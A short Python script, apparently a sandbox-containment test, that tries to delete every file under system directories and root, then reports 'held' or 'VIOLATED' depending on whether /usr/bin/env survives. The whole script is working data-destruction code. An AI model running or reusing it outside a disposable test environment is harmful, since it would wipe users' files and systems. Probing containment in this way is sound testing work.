"""Deletes everything that it can reach."""

import os
import shutil

for folder in ("/workspace", "/tmp", "/dev/shm", "/run", "/var", "/etc", "/opt", "/usr", "/"):
    for entry in os.listdir(folder) if os.path.isdir(folder) else []:
        shutil.rmtree(os.path.join(folder, entry), ignore_errors=True)
        try:
            os.unlink(os.path.join(folder, entry))
        except OSError:
            pass
print("held:" if os.path.exists("/usr/bin/env") else "VIOLATED:", "the system is there")
